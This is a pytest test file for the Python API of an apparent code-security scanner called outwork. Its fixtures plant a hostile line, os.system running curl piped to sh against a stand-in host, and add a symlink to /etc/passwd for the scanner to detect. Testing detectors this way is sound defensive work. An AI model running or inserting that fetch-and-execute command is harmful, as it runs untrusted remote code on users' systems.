"""The documented Python API: ``outwork.scan(...)`` returns the result model, with the
command line's defaults, and never prints, exits or reads the environment."""

from __future__ import annotations

import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

import outwork
from outwork.cli.main import run
from outwork.core.errors import UsageError
from outwork.core.findings import ScanResult

PAYLOAD = "import os\nos.system('curl -s https://example.invalid/x | sh')\n"


def _tree(root: Path) -> Path:
    (root / "pkg").mkdir(parents=True)
    (root / "pkg" / "mod.py").write_text(PAYLOAD)
    (root / "tests" / "fixtures").mkdir(parents=True)
    (root / "tests" / "fixtures" / "evil.py").write_text(PAYLOAD)
    (root / "escape").symlink_to("/etc/passwd")
    return root


def test_scan_returns_the_result_model(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    root = _tree(tmp_path / "proj")
    result = outwork.scan(root, jobs=1)
    assert isinstance(result, ScanResult)
    assert {f.code for f in result.active} >= {"PKG001", "CORE003"}
    assert outwork.failed(result) and outwork.failed(result, "critical")
    assert capsys.readouterr() == ("", "")  # the library never prints


def test_options_match_the_command_line(tmp_path: Path) -> None:
    root = _tree(tmp_path / "proj")
    result = outwork.scan([root], select=["CORE"], jobs=1)
    assert [f.code for f in result.active] == ["CORE003"]
    assert not outwork.failed(result, "critical")
    result = outwork.scan(root, exclude=["tests/fixtures/"], select=["PKG"], jobs=1)
    assert [f.location.path for f in result.active] == [f"{root}/pkg/mod.py"]
    out, err = io.StringIO(), io.StringIO()
    argv = ["scan", str(root), "--no-cache", "--no-config", "-f", "json", "--select", "PKG"]
    run([*argv, "--exclude", "tests/fixtures/"], out, err)
    cli = json.loads(out.getvalue())["findings"]
    assert [f["fingerprint"] for f in cli] == [f.fingerprint for f in result.active]


def test_baseline_suppresses_what_it_recorded(tmp_path: Path) -> None:
    root = _tree(tmp_path / "proj")
    baseline = tmp_path / "baseline.json"
    out, err = io.StringIO(), io.StringIO()
    argv = ["scan", str(root), "--no-cache", "--no-config", "--write-baseline", str(baseline)]
    assert run(argv, out, err) == 0
    result = outwork.scan(root, baseline=baseline, jobs=1)
    assert result.findings and not result.active
    assert {f.suppressed for f in result.findings} == {"baseline"}


def test_errors_say_what_to_do(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="outwork rules"):
        outwork.scan(tmp_path, select=["NOPE999"])
    with pytest.raises(UsageError, match="choose one of"):
        outwork.scan(tmp_path, min_confidence="sure")
    with pytest.raises(UsageError, match="no such file"):
        outwork.scan(tmp_path / "missing")


def test_import_outwork_stays_light() -> None:
    code = "import sys, outwork; print(sorted(m for m in sys.modules if m.startswith('outwork')))"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "['outwork']"
